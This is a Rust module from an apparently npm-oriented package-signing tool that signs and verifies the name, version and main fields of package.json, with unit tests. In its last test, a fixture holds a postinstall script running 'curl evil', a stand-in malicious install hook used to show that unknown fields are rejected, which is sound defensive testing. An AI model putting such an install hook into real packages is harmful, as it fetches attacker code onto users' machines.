//! The package manifest entry: signed constraints over a subset of
//! `package.json` fields.
//!
//! Signing a subset lets the unsigned remainder of the manifest vary after
//! release, so a registry can re-stamp metadata without invalidating every
//! file hash.

use log::debug;
use pkgsign_core::types::Verdict;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::files::MANIFEST_FILE;
use super::CheckContext;

/// Signed constraints over the package manifest.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PackageJsonEntry {
    /// The constrained field values.
    #[serde(rename = "packageJson")]
    pub package_json: ManifestConstraint,
}

/// The manifest fields a signer may constrain. Anything else in the payload
/// rejects at parse time: a constraint this implementation would not check
/// must not pretend to be signed.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ManifestConstraint {
    /// Constrained `name` value.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub name: Option<Value>,
    /// Constrained `version` value.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub version: Option<Value>,
    /// Constrained `main` value.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub main: Option<Value>,
}

impl ManifestConstraint {
    /// Constrained fields in canonical order.
    fn fields(&self) -> [(&'static str, &Option<Value>); 3] {
        [
            ("name", &self.name),
            ("version", &self.version),
            ("main", &self.main),
        ]
    }
}

impl PackageJsonEntry {
    /// Present fields in fixed order, each as `<field>=<compact JSON>`
    /// followed by a line feed.
    pub(crate) fn write_canonical(&self, out: &mut Vec<u8>) {
        for (field, value) in self.package_json.fields() {
            if let Some(value) = value {
                out.extend_from_slice(field.as_bytes());
                out.push(b'=');
                out.extend_from_slice(compact_json(value).as_bytes());
                out.push(b'\n');
            }
        }
    }

    /// Assert every constrained field equals the on-disk manifest value.
    pub(crate) fn check(&self, ctx: &CheckContext<'_>) -> Option<Verdict> {
        let path = ctx.dir.join(MANIFEST_FILE);
        let manifest: Value = match std::fs::read_to_string(&path)
            .map_err(|e| e.to_string())
            .and_then(|raw| serde_json::from_str(&raw).map_err(|e| e.to_string()))
        {
            Ok(manifest) => manifest,
            Err(e) => {
                debug!("manifest load failed at {}: {e}", path.display());
                return Some(Verdict::Compromised(
                    "Missing or unparsable package.json".to_owned(),
                ));
            }
        };

        for (field, expected) in self.package_json.fields() {
            if let Some(expected) = expected {
                if manifest.get(field) != Some(expected) {
                    return Some(Verdict::Compromised(format!(
                        "package.json does not match what was signed for (field '{field}')"
                    )));
                }
            }
        }
        None
    }
}

/// Compact JSON is deterministic for the scalar values manifests hold; no
/// key-order or whitespace ambiguity can reach the signed bytes.
fn compact_json(value: &Value) -> String {
    value.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn entry(constraint: Value) -> PackageJsonEntry {
        PackageJsonEntry {
            package_json: serde_json::from_value(constraint).unwrap(),
        }
    }

    #[test]
    fn canonical_form_orders_name_version_main() {
        let entry = entry(json!({"main": "index.js", "name": "p", "version": "1.0.0"}));
        let mut out = Vec::new();
        entry.write_canonical(&mut out);
        assert_eq!(out, b"name=\"p\"\nversion=\"1.0.0\"\nmain=\"index.js\"\n");
    }

    #[test]
    fn absent_constraints_emit_nothing() {
        let entry = entry(json!({"name": "p"}));
        let mut out = Vec::new();
        entry.write_canonical(&mut out);
        assert_eq!(out, b"name=\"p\"\n");
    }

    #[test]
    fn unknown_constraint_fields_reject() {
        let raw = json!({"name": "p", "scripts": {"postinstall": "curl evil"}});
        assert!(serde_json::from_value::<ManifestConstraint>(raw).is_err());
    }
}
